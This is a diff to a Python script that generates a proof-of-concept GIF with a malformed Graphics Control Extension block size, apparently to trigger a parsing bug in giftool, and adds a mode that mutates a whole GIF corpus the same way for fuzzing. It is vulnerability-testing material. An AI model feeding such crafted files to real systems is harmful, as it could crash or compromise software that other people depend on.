@@ -1,25 +1,46 @@
 # gen_poc_giftool_gce_len1.py
-poc = bytearray()
+#
+# Default: a 1x1 GIF whose Graphics Control Extension has block_size=1.
+# With --corpus, every GIF found is mutated the same way (all GCEs rewritten,
+# one inserted if there is none) without touching its image data.
+import argparse
+import functools
+import sys
+from pathlib import Path
 
-# Header + LSD (1x1, GCT present, 2 colors)
-poc += b"GIF89a"
-poc += b"\x01\x00\x01\x00"      # width=1, height=1
-poc += b"\x80\x00\x00"          # GCT flag=1, color res=0, sort=0, GCT size=2
-poc += b"\x00\x00\x00"          # color #0: black
-poc += b"\xff\xff\xff"          # color #1: white
+sys.path.insert(0, str(Path(__file__).resolve().parents[2]))
+from poclib.gif import BW_COLORMAP, TRAILER, GifIndex, frame, gce, gce_size_edits, header, mutate_corpus
+from poclib.segments import segments_len, write_segments
 
-# Malformed Graphics Control Extension:
-# 21 F9 [block_size=01] [1 byte data=00] [block terminator=00]
-poc += b"\x21\xf9\x01\x00\x00"
 
-# Image Descriptor (1x1 at 0,0), no local color table
-poc += b"\x2c\x00\x00\x00\x00\x01\x00\x01\x00\x00"
+def build_base() -> bytes:
+    # Header + LSD (1x1, GCT present, 2 colors), well-formed GCE,
+    # 1x1 image at 0,0 without local color table, trailer
+    return header(1, 1, BW_COLORMAP) + gce() + frame() + TRAILER
 
-# Image data: LZW min code size=2, one sub-block, terminator
-poc += b"\x02\x02\x4c\x01\x00"
 
-# Trailer
-poc += b"\x3b"
+def main() -> None:
+    ap = argparse.ArgumentParser(description="giftool GCE block size PoC, or the same mutation over a GIF corpus.")
+    ap.add_argument("out", nargs="?", default="poc.gif")
+    ap.add_argument("--block-size", type=int, default=1, help="GCE block_size byte written (valid GIFs use 4)")
+    ap.add_argument("--corpus", nargs="+", metavar="PATH", help="GIF files or directories to mutate")
+    ap.add_argument("--out-dir", default="mutants", help="--corpus: output directory")
+    ap.add_argument("--workers", type=int, default=None)
+    args = ap.parse_args()
 
-open("poc.gif", "wb").write(poc)
-print("wrote poc.gif, size =", len(poc))
+    mutate = functools.partial(gce_size_edits, block_size=args.block_size)
+    if args.corpus:
+        rows = mutate_corpus(args.corpus, args.out_dir, mutate, f"_gce{args.block_size}", args.workers)
+        print(f"wrote {sum(1 for r in rows if r['file'])} of {len(rows)} mutants to {args.out_dir}")
+        return
+
+    # Malformed Graphics Control Extension:
+    # 21 F9 [block_size=01] [1 byte data=00] [block terminator=00]
+    index = GifIndex(build_base())
+    segments = index.splice(mutate(index))
+    write_segments(args.out, segments)
+    print(f"wrote {args.out}, size =", segments_len(segments))
+
+
+if __name__ == "__main__":
+    main()